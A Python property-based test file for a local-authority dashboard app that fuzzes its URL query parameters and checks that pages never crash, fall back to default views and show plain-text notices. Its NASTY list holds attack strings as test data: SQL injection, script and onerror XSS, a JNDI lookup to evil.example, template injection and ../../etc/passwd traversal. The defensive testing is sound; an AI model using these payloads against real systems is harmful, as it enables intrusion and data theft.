"""Hostile deep links: generated query strings never crash a page and always give the notice and
the default view.

Two layers. The pure URL-coercion functions (lutonwb.ui.state.read_state for the monitor pages,
lutonwb.ui.maps.read_state for the ward maps, lutonwb.tracker.views.parse_selection for the plan,
all reading the keys of lutonwb.ui.state.REGISTRY) get at least 500 generated links per page; a
smaller sample of links per page, with every key the registry declares for it, then runs the real
app under AppTest (slow: about a second a run).
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lutonwb import config, wards
from lutonwb.tracker import views
from lutonwb.ui import maps
from lutonwb.ui.state import (
    DEFAULT_GROUP,
    GLOBAL_KEYS,
    MAX_CUSTOM,
    MAX_QUERY,
    PAGE_FILES,
    PAGE_KEYS,
    PARAMS,
    Vocab,
    alias_map,
    keys_of,
    read_state,
)

ROOT = Path(__file__).resolve().parents[2]
ATTR_OF = {p.key: p.attr for p in PARAMS}  # URL key -> State attribute, from the registry
PURE_EXAMPLES = 500
# a period label as the data prints it: a year, then up to 20 plain characters ('2020-22', '2022/23')
PERIOD = re.compile(r"(19[5-9]\d|20\d\d)[0-9A-Za-z /\-]{0,20}")
APP_EXAMPLES = 25

# strings people (and scanners) put in links
NASTY: tuple[str, ...] = (
    "",
    " ",
    "' OR 1=1 --",
    '1; DROP TABLE "values";--',
    "E06000032' OR '1'='1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![x](http://evil.example/p.png)",
    "[log in here](https://evil.example/)",
    "[x](javascript:alert(1))",
    "$\\frac{1}{0}$",
    "`code` **bold** _it_",
    ":red[alarm] :material/warning:",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "%00",
    "\x00",
    "\u202eE06000032",
    "E06000032\x00",
    "Ｅ０６０００００３２",
    "٣",
    "Ⅷ",
    "²",
    "１",
    "-1",
    "0",
    "00",
    "9" * 400,
    "1e308",
    "NaN",
    "inf",
    "None",
    "null",
    "[]",
    "{}",
    "true",
    ",,,",
    "E06000032," * 200,
    "custom",
    " CUSTOM ",
    "latest",
    "2019",
    "1899",
    "99999",
    "E06000032",
    "e06000032",
    "E92000001",
    "E12000006",
    "E99999999",
    "life-expectancy-male",
    "childrens-trust",
    "\n\nTraceback (most recent call last):",
    "😀" * 30,
    "ß\u0301\u200b",
)
# values no key accepts (for the AppTest sample, where every known key must raise a notice)
VALID_SOMEWHERE = {"", " ", "custom", " CUSTOM ", "latest", "2019", "E06000032", "e06000032",
                   "life-expectancy-male", "childrens-trust", "E06000032," * 200,
                   # on/off words of the measure page's `map` flag (lutonwb.ui.state.coerce_flag)
                   "0", "1", "true", "false", "yes", "no", "on", "off"}  # fmt: skip
HOSTILE: tuple[str, ...] = tuple(v for v in NASTY if v not in VALID_SOMEWHERE)
FREE_TEXT = {"q"}  # search boxes take any text (trimmed), so no notice
# characters that would make a notice active markdown or HTML if they came from the link
# (a lone trailing newline is not active: see test_shown_drops_trailing_newline)
ACTIVE = ("<", ">", "](", "`", "$", "\n\n", "\r", "\x00")

text_values = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
    st.integers().map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.tuples(st.sampled_from(("x", "é", "E06000032,", "<b>", "9")), st.integers(100, 20_000)).map(
        lambda t: t[0] * t[1]
    ),  # huge values
)


def links(page_keys: tuple[str, ...], extra: st.SearchStrategy[str] | None = None):
    """Query dicts: the page's keys (any subset), unknown keys, and hostile values."""
    keys = st.one_of(st.sampled_from(page_keys), st.text(max_size=20))
    values = text_values if extra is None else st.one_of(text_values, extra)
    return st.dictionaries(keys, values, max_size=len(page_keys) + 3)


# -- fixtures: the real vocabulary of this build ----------------------------------------------


@pytest.fixture(scope="module")
def vocab(wh) -> Vocab:
    """Valid values from the warehouse and catalogue (what lutonwb.ui.engine.vocab builds)."""
    from lutonwb.catalogue import load_catalogue

    cat = load_catalogue()
    utla = wh.areas("utla")
    utla = utla[utla["current"].fillna(False).astype(bool)]
    areas = dict(zip(utla["area_code"].astype(str), utla["area_name"].astype(str), strict=True))
    measures = [(mid, mid) for mid in cat.measures]
    measures += [(a, mid) for a, mid in cat.aliases.items() if mid in cat.measures]
    boards = [(bid, bid) for bid in cat.boards]
    for bid, b in cat.boards.items():
        boards += [(b.title, bid), *((a, bid) for a in b.aliases)]
    headline = [m.id for m in cat.measures.values() if m.headline and not m.reported_only]
    return Vocab(
        areas=areas,
        measures=alias_map(measures),
        boards=alias_map(boards),
        principles=frozenset(cat.principles),
        default_area="E06000032",
        default_measure=headline[0],
        default_board=next(iter(cat.boards)),
    )


def _defaults(vocab: Vocab):
    state, _ = read_state({}, {}, vocab)
    return state


def _oracle_ok(key: str, raw: str, vocab: Vocab) -> bool:
    """Whether a link value is usable, decided independently of the coercers."""
    t = raw.strip()
    if key == "area":
        return t.upper() in vocab.areas
    if key == "cmp":
        return t.lower() in vocab.groups
    if key == "period":
        return t.lower() in ("", "latest") or bool(PERIOD.fullmatch(t))
    if key == "m":
        return t.lower() in vocab.measures
    if key == "board":
        return t.lower() in vocab.boards
    if key == "principle":
        return t in {f"{z}{n}" for n in vocab.principles for z in ("", "0")}
    return True  # q: free text; with: checked member by member


def _inert(notice: str) -> bool:
    return isinstance(notice, str) and not any(a in notice for a in ACTIVE) and len(notice) < 600


# -- 1. the monitor pages' URL layer ----------------------------------------------------------


@pytest.mark.parametrize("page", sorted(PAGE_KEYS))
def test_monitor_links_coerce_to_valid_state(page: str, vocab: Vocab) -> None:
    keys = GLOBAL_KEYS + PAGE_KEYS[page] + ("m", "board", "principle", "q")
    default = _defaults(vocab)
    valid_values = st.sampled_from(
        [*list(vocab.areas)[:20], *vocab.groups, *list(vocab.measures)[:20], *vocab.boards, "3"]
    )

    @settings(
        max_examples=PURE_EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow]
    )
    @given(url=links(keys, valid_values), memory=links(keys, valid_values))
    def check(url: dict[str, str], memory: dict[str, str]) -> None:
        state, new_memory = read_state(url, memory, vocab)
        # always a valid view
        assert state.area in vocab.areas
        assert state.cmp in vocab.groups
        assert state.cmp != "custom" or state.members, "custom needs members"
        assert set(state.members) <= set(vocab.areas) and len(state.members) <= MAX_CUSTOM
        assert state.period == "latest" or PERIOD.fullmatch(state.period)
        assert state.measure in set(vocab.measures.values())
        assert state.board in set(vocab.boards.values())
        assert state.principle in vocab.principles
        assert len(state.query) <= MAX_QUERY
        # notices are plain, short text: nothing from the link becomes markdown or HTML
        assert all(_inert(n) for n in state.notices), state.notices
        # an unusable value gives a notice and the default for that key
        for key in ("area", "cmp", "period", "m", "board", "principle"):
            if key in url and not _oracle_ok(key, url[key], vocab):
                attr = {"m": "measure"}.get(key, key)
                assert state.notices, (key, url[key])
                if key != "cmp":  # cmp may legitimately fall back from custom
                    assert getattr(state, attr) == getattr(default, attr), (key, url[key])
        bad_members = [
            p
            for p in str(url.get("with", "")).split(",")
            if p.strip() and p.strip().upper() not in vocab.areas
        ]
        if bad_members:
            assert any("custom group" in n for n in state.notices)
        # the canonical link the page writes back reads the same, with no notice (no rerun loop)
        again, _ = read_state(state.params_for(page), {}, vocab)
        assert again.notices == ()
        for attr in ("area", "cmp", "period"):
            assert getattr(again, attr) == getattr(state, attr)
        for key in PAGE_KEYS[page]:
            attr = ATTR_OF[key]
            assert getattr(again, attr) == getattr(state, attr)
        assert all(isinstance(v, str) for v in new_memory.values())

    check()


def test_shown_drops_trailing_newline() -> None:
    from lutonwb.text import shown

    assert "\n" not in shown("E06000032\n")


def test_all_bad_link_gives_the_default_view(vocab: Vocab) -> None:
    url = {
        k: "<script>alert(1)</script>" for k in ("area", "cmp", "period", "m", "board", "principle")
    }
    state, _ = read_state(url, {}, vocab)
    default = _defaults(vocab)
    for attr in ("area", "cmp", "period", "measure", "board", "principle"):
        assert getattr(state, attr) == getattr(default, attr)
    assert len(state.notices) == 6
    assert state.cmp == DEFAULT_GROUP and state.area == "E06000032"


def test_bad_link_notices_name_choices_never_their_ids(vocab: Vocab) -> None:
    """Issue 18: a notice lists what a reader can choose by its name (the sidebar's label), never
    by the ids a link uses, and never repeats an allowed id back."""
    from lutonwb.comparators import GROUPS

    ids = [g for g in vocab.groups if "-" in g] + [b for b in vocab.boards.values() if "-" in b]
    for bad in NASTY:
        url = dict.fromkeys(("cmp", "board", "m", "period", "principle"), bad)
        state, _ = read_state(url, {}, vocab)
        text = " ".join(state.notices)
        assert not [i for i in ids if i in text and i not in bad], (bad, text)
        if bad.strip().lower() not in vocab.groups:
            assert all(g.label in text for g in GROUPS), text


# -- 2. ward maps ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ward_names(wh) -> tuple[dict[str, str], dict[str, str]]:
    new = wards.areas_of(wh, "wd23")
    old = wards.areas_of(wh, "wd13")
    return dict(zip(new["code"], new["name"], strict=True)), dict(
        zip(old["code"], old["name"], strict=True)
    )


def _ward_links():
    values = st.one_of(
        text_values, st.sampled_from([*wards.LAYERS, *wards.GEOGRAPHIES, "E05014735", "E05002440"])
    )
    keys = st.one_of(st.sampled_from(("layer", "geo", "ward")), st.text(max_size=20))
    return st.dictionaries(keys, values, max_size=6)


@settings(max_examples=PURE_EXAMPLES, deadline=None)
@given(url=_ward_links())
def _check_ward_link(url: dict[str, str], names: Mapping[str, str], old: Mapping[str, str]) -> None:
    s = maps.read_state(url, dict(names), dict(old))
    assert s.layer in wards.LAYERS
    assert s.geo in wards.layer(s.layer).geographies
    assert s.ward == "" or s.ward in names
    for key in ("layer", "geo", "ward"):
        if key in url and str(url[key]).strip() and not s.notices:
            # accepted: it must be the (normalised) link value
            assert str(url[key]).strip().lower() in (s.layer, s.geo, s.ward.lower())


def test_ward_links_coerce_to_valid_state(ward_names) -> None:
    names, old = ward_names
    assert len(names) == 20
    _check_ward_link(names=names, old=old)


def test_ward_notices_are_inert(ward_names) -> None:
    names, old = ward_names
    for bad in NASTY:
        for key in ("layer", "geo", "ward"):
            s = maps.read_state({key: bad}, names, old)
            assert all(_inert(n) for n in s.notices), (key, bad, s.notices)


# -- 3. the year-plan tracker ----------------------------------------------------------------


@pytest.fixture(scope="module")
def plan_choices(wh) -> views.Choices:
    choices, _ = views.catalogue_bits(config.catalogue_path())
    actions = wh.table("plan_actions")
    return views.Choices(
        choices.boards, choices.outcomes, choices.principles, frozenset(actions["action_id"])
    )


@pytest.mark.parametrize("value", ["²", "9" * 4301])
def test_plan_principle_never_crashes(value: str, plan_choices: views.Choices) -> None:
    sel, notices = views.parse_selection({"p": value}, plan_choices)
    assert sel.principle is None and notices


def test_plan_links_coerce_to_valid_selection(plan_choices: views.Choices) -> None:
    repeated = st.lists(text_values, min_size=0, max_size=4)  # ?k=a&k=b arrives as a list

    @settings(max_examples=PURE_EXAMPLES, deadline=None)
    @given(
        url=st.dictionaries(
            st.one_of(st.sampled_from(tuple(views.KEYS)), st.text(max_size=20)),
            st.one_of(
                text_values, repeated, st.sampled_from([*plan_choices.boards, *views.plans()])
            ),
            max_size=10,
        )
    )
    def check(url) -> None:
        sel, notices = views.parse_selection(url, plan_choices)
        assert sel.board in ("", *plan_choices.boards)
        assert sel.plan in ("", *views.plans())
        assert sel.group in views.GROUPS
        assert sel.principle is None or sel.principle in plan_choices.principles
        assert sel.action in ("", *plan_choices.actions)
        assert len(sel.q) <= 100
        assert isinstance(sel.timeline, bool)
        assert all(isinstance(n, str) and len(n) < 600 for n in notices)

    check()


def test_plan_notices_are_inert(plan_choices: views.Choices) -> None:
    for bad in NASTY:
        for key in views.KEYS:
            _, notices = views.parse_selection({key: bad}, plan_choices)
            assert all(_inert(n) for n in notices), (key, bad, notices)


# -- 4. the real app under AppTest ------------------------------------------------------------

# every page with every key the registry declares for it
APP_PAGES: dict[str, tuple[str, tuple[str, ...]]] = {
    **{p or "overview": (PAGE_FILES[p], keys_of(p)) for p in PAGE_KEYS},
    "wards": ("pages/wards.py", keys_of("wards")),
    "plan": ("pages/plan.py", keys_of("plan")),
}


def _texts(at) -> list[str]:
    out: list[str] = []
    for kind in (
        "title",
        "header",
        "subheader",
        "markdown",
        "caption",
        "text",
        "warning",
        "info",
        "error",
        "code",
    ):
        out += [str(getattr(e, "value", "")) for e in getattr(at, kind)]
    return out


@pytest.mark.parametrize("name", sorted(APP_PAGES))
def test_app_survives_generated_links(
    name: str, warehouse_dir, tmp_path_factory, monkeypatch
) -> None:
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("LUTONWB_TRACKER_DB", str(tmp_path_factory.mktemp("tracker") / "t.duckdb"))
    path, keys = APP_PAGES[name]
    nasty_only = st.dictionaries(
        st.one_of(st.sampled_from(keys), st.sampled_from(("zz", "__proto__", "<b>"))),
        st.one_of(
            st.sampled_from(HOSTILE), st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=3)
        ),
        min_size=1,
        max_size=len(keys) + 1,
    )

    @settings(max_examples=APP_EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
    @given(url=nasty_only)
    def check(url) -> None:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
        for k, v in url.items():
            at.query_params[k] = v  # a list is a repeated key
        at.switch_page(path)
        at.run()
        assert not at.exception, [e.message for e in at.exception]
        texts = _texts(at)
        # (a link that itself says "Traceback" may see its own search text echoed back: then
        # only at.exception, asserted above, can tell)
        if "Traceback" not in str(url):
            assert not any("Traceback" in t for t in texts), url
        if any(k in keys and k not in FREE_TEXT for k in url):
            notices = [str(e.value) for e in (*at.warning, *at.info)]
            assert notices, f"no notice for {url}"

    check()
